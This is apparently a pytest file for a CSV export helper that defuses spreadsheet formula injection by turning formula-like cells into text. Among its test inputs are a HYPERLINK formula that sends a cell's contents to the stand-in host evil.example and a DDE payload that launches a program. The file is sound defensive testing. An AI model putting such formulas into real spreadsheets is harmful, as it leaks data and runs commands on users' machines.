"""Cells that nobody's spreadsheet computes, in a file that every spreadsheet reads."""

import csv
import io

import pytest

from portal.csv_text import lines, safe


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "＝1", "＋1", "－1", "＠x"),
        '=HYPERLINK("https://evil.example/?"&A1)',
        "=cmd|'/C calc'!A0",
    ],
)
def test_what_begins_like_a_formula_is_a_text(text: str) -> None:
    [[cell]] = list(csv.reader(io.StringIO(lines([[text]]), newline="")))
    assert cell == f"'{text}"


@pytest.mark.parametrize("text", ["Anna", "Anna-Maria", "a=b", "1-2", "", "Ζωγράφου", "2026-01-01T00:00:00.000+00:00"])
def test_what_does_not_stays_as_it_is(text: str) -> None:
    assert safe(text) == text
    assert (safe(None), safe(12)) == ("", "12")


def test_every_cell_is_quoted_and_comes_back() -> None:
    rows = [['a"b', "c,d"], ["e\r\nf", "g;h"]]
    text = lines(rows)
    assert text.startswith('"a""b","c,d"\r\n') and text.endswith('"\r\n')
    assert list(csv.reader(io.StringIO(text, newline=""))) == rows
